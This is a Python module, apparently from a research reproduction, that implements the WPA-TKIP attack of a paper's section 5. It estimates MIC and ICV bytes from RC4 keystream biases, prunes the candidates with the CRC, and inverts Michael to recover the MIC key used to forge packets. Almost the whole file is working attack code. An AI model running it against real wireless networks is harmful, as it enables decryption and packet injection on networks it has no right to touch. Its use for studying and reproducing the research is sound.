"""The end-to-end WPA-TKIP attack (paper §5).

Pipeline (paper §5.3):

1. For every unknown plaintext position (the 8 MIC + 4 ICV bytes; the 48
   header bytes and the TCP payload are known or recoverable), combine
   per-TSC single-byte likelihoods over all captured TSC values (§5.1,
   the Paterson et al. estimator).
2. Enumerate 12-byte candidates in decreasing likelihood (Algorithm 1 /
   the lazy streaming variant) and prune with the CRC redundancy: a
   candidate (MIC, ICV) survives only if CRC32(data || MIC) == ICV.
3. From the first surviving candidate, invert Michael to obtain the MIC
   key, which lets the attacker forge packets (§2.2).

The same generate-and-prune trick recovers unknown header fields (client
IP/port, TTL) via the IP and TCP checksums — implemented in
:func:`recover_header_fields_demo` as the paper describes in §5.3.
"""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np

from ..core.candidates.lazy import lazy_candidate_blocks
from ..core.likelihood.single import xor_log_likelihoods
from ..errors import AttackError, LikelihoodError
from .crc import Crc32, crc32_rows
from .injection import CaptureSet
from .michael import michael, michael_header, recover_key
from .packets import ICV_LEN, MIC_LEN
from .per_tsc import PerTscDistributions


@dataclass(frozen=True)
class TkipAttackResult:
    """Outcome of a decryption attempt.

    Attributes:
        mic: recovered 8-byte Michael MIC value.
        icv: recovered 4-byte ICV.
        mic_key: MIC key derived by inverting Michael.
        candidates_tried: how deep into the candidate list the first
            CRC-valid candidate sat (paper Fig 9's quantity).
        correct: whether the recovered MIC matches the true MIC (only
            known in simulations; None when ground truth not supplied).
    """

    mic: bytes
    icv: bytes
    mic_key: bytes
    candidates_tried: int
    correct: bool | None = None


def position_log_likelihoods(
    capture: CaptureSet,
    per_tsc: PerTscDistributions,
    unknown_positions: list[int],
) -> np.ndarray:
    """Single-byte log-likelihoods for each unknown position (§5.1).

    Per-TSC estimates are combined by multiplying likelihoods over all
    observed TSC values — summation in log domain, in ``capture.counts``
    order.  Each TSC's positions with any counts go through one
    :func:`~repro.core.likelihood.single.xor_log_likelihoods` call, so the
    scratch is one TSC's ``(positions, 256)`` rows however many TSC
    values the capture holds.

    Raises:
        AttackError: on a position outside the capture or the per-TSC
            distributions.
        LikelihoodError: on a non-positive probability where counts are.

    Returns:
        float64 array (len(unknown_positions), 256).
    """
    pos_index = {pos: row for row, pos in enumerate(capture.positions)}
    for pos in unknown_positions:
        if pos not in pos_index:
            raise AttackError(f"position {pos} not covered by the capture")
        if pos > per_tsc.length:
            raise AttackError(
                f"position {pos} beyond per-TSC distributions ({per_tsc.length})"
            )
    count_rows = np.asarray(
        [pos_index[pos] for pos in unknown_positions], dtype=np.intp
    )
    dist_rows = np.asarray(unknown_positions, dtype=np.intp) - 1
    loglik = np.zeros((len(unknown_positions), 256), dtype=np.float64)
    for tsc_low, counts in capture.counts.items():
        if not per_tsc.covers(tsc_low):
            continue
        rows = counts[count_rows]
        live = np.flatnonzero(rows.sum(axis=1))
        if live.size == 0:
            continue
        dists = per_tsc.for_tsc(tsc_low)[dist_rows[live]]
        if np.any(dists <= 0.0):
            raise LikelihoodError(
                "keystream distribution must be strictly positive"
            )
        loglik[live] += xor_log_likelihoods(rows[live], np.log(dists))
    return loglik


def decrypt_mic_icv(
    loglik: np.ndarray,
    known_data: bytes,
    *,
    max_candidates: int,
    true_mic: bytes | None = None,
) -> TkipAttackResult:
    """Search the candidate list for a (MIC, ICV) passing the CRC (§5.3).

    Args:
        loglik: (12, 256) log-likelihoods: 8 MIC bytes then 4 ICV bytes.
        known_data: the known plaintext MSDU data (headers + payload) the
            ICV covers together with the MIC.
        max_candidates: abort after this many candidates (the paper walks
            up to ~2**30; scaled runs use less).
        true_mic: optional ground truth for success accounting.

    Raises:
        AttackError: on a budget below 1, or if no candidate within the
            budget passes the CRC.
        CandidateError: on a NaN or +inf log-likelihood.
    """
    loglik = np.asarray(loglik, dtype=np.float64)
    if loglik.shape != (MIC_LEN + ICV_LEN, 256):
        raise AttackError(f"expected ({MIC_LEN + ICV_LEN}, 256) likelihoods")
    if max_candidates < 1:
        raise AttackError(f"max_candidates must be >= 1, got {max_candidates}")
    prefix_state = Crc32().update(known_data).state
    icv_shifts = np.uint32(8) * np.arange(ICV_LEN, dtype=np.uint32)
    seen = 0
    for rows, _scores in lazy_candidate_blocks(loglik):
        rows = rows[: max_candidates - seen]
        # One rolling-CRC pass over the 8 MIC columns, then compare the
        # little-endian digest bytes against the 4 ICV columns.
        crc = crc32_rows(prefix_state, rows[:, :MIC_LEN]) ^ np.uint32(0xFFFFFFFF)
        digest = (crc[:, None] >> icv_shifts) & np.uint32(0xFF)
        hits = np.nonzero((digest == rows[:, MIC_LEN:]).all(axis=1))[0]
        if hits.size:
            hit = int(hits[0])
            mic = rows[hit, :MIC_LEN].tobytes()
            return TkipAttackResult(
                mic=mic,
                icv=rows[hit, MIC_LEN:].tobytes(),
                mic_key=b"",  # filled by the caller with addresses in hand
                candidates_tried=seen + hit + 1,
                correct=None if true_mic is None else mic == true_mic,
            )
        seen += rows.shape[0]
        if seen >= max_candidates:
            break
    raise AttackError(
        f"no CRC-valid candidate within {max_candidates} candidates"
    )


def run_attack(
    capture: CaptureSet,
    per_tsc: PerTscDistributions,
    known_data: bytes,
    da: bytes,
    sa: bytes,
    *,
    priority: int = 0,
    max_candidates: int = 1 << 20,
    true_mic: bytes | None = None,
) -> TkipAttackResult:
    """Full §5 pipeline: likelihoods -> candidate search -> Michael inversion.

    Args:
        capture: ciphertext statistics from the injection campaign.
        per_tsc: per-TSC keystream distributions (§5.1).
        known_data: known plaintext MSDU data of the injected packet.
        da, sa: destination/source MACs (Michael header inputs).
        priority: QoS priority used by the victim.
        max_candidates: candidate budget.
        true_mic: optional ground truth.

    Returns:
        :class:`TkipAttackResult` with the recovered MIC key.
    """
    unknown = list(
        range(len(known_data) + 1, len(known_data) + MIC_LEN + ICV_LEN + 1)
    )
    loglik = position_log_likelihoods(capture, per_tsc, unknown)
    partial = decrypt_mic_icv(
        loglik, known_data, max_candidates=max_candidates, true_mic=true_mic
    )
    mic_key = recover_key(michael_header(da, sa, priority) + known_data, partial.mic)
    # Self-check: the recovered key must reproduce the candidate MIC.
    if michael(mic_key, michael_header(da, sa, priority) + known_data) != partial.mic:
        raise AttackError("Michael inversion self-check failed")
    return TkipAttackResult(
        mic=partial.mic,
        icv=partial.icv,
        mic_key=mic_key,
        candidates_tried=partial.candidates_tried,
        correct=partial.correct,
    )


def biased_position_strength(per_tsc: PerTscDistributions) -> np.ndarray:
    """Per-position bias strength: mean KL divergence from uniform.

    This is the data-driven version of the paper's §5.2 packet-structure
    argument — counting how many strongly biased positions fall under the
    MIC/ICV window for a 0-byte vs a 7-byte TCP payload.

    Returns:
        float64 array (length,): entry r-1 scores position r.
    """
    log_u = -np.log(256.0)
    # Mean over TSC values of sum_k p log(p / u).
    dists = per_tsc.dists
    kl = (dists * (np.log(dists) - log_u)).sum(axis=2)
    return kl.mean(axis=0)


def payload_choice_report(
    per_tsc: PerTscDistributions,
    *,
    threshold_quantile: float = 0.75,
) -> dict[int, int]:
    """Count strongly-biased positions under the MIC/ICV window per
    payload length (0 vs 7), reproducing the §5.2 comparison.

    A position is "strong" if its KL strength exceeds the given quantile
    over the covered range.

    Returns:
        mapping payload_len -> number of strong positions in the window.
    """
    from .packets import icv_positions, mic_positions

    strength = biased_position_strength(per_tsc)
    threshold = float(np.quantile(strength, threshold_quantile))
    report: dict[int, int] = {}
    for payload_len in (0, 7):
        window = list(mic_positions(payload_len)) + list(icv_positions(payload_len))
        in_range = [pos for pos in window if pos <= len(strength)]
        report[payload_len] = int(
            sum(strength[pos - 1] > threshold for pos in in_range)
        )
    return report
